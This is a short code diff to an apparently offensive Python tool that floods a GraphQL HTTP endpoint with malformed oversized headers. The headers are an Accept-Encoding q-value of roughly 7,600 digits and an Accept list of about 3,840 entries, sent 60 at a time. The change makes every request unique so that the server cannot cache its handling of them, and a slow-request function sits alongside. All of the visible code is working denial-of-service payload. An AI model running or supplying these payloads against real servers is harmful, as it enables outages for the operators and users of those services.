@@ -3,6 +3,7 @@
 import argparse
 import asyncio
 import concurrent.futures
+import itertools
 import json
 import multiprocessing
 import os
@@ -151,9 +152,14 @@ def names(attack):
 
 
 def headers(attack):
-    digits = f"GET /graphql?query={{__typename}} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip;q=0.{'1' * 7600}x\r\n\r\n"
-    ranges = f"GET /graphql?query={{__typename}} HTTP/1.1\r\nHost: x\r\nAccept: {'a,' * 3850}\r\n\r\n"
-    return attack.many(60, lambda i: attack.ask((digits if i % 2 else ranges).encode()))
+    numbers = itertools.count()
+    start = "GET /graphql?query={__typename} HTTP/1.1\r\nHost: x\r\n"
+
+    def request():
+        number = next(numbers)  # no two are the same: what a header asks for may be remembered
+        return f"Accept-Encoding: gzip;q=0.{'1' * 7590}{number}x" if number % 2 else f"Accept: {'a,' * 3840}{number}"
+
+    return attack.many(60, lambda i: attack.ask(f"{start}{request()}\r\n\r\n".encode()))
 
 
 def slow_heads(attack, number=6000):
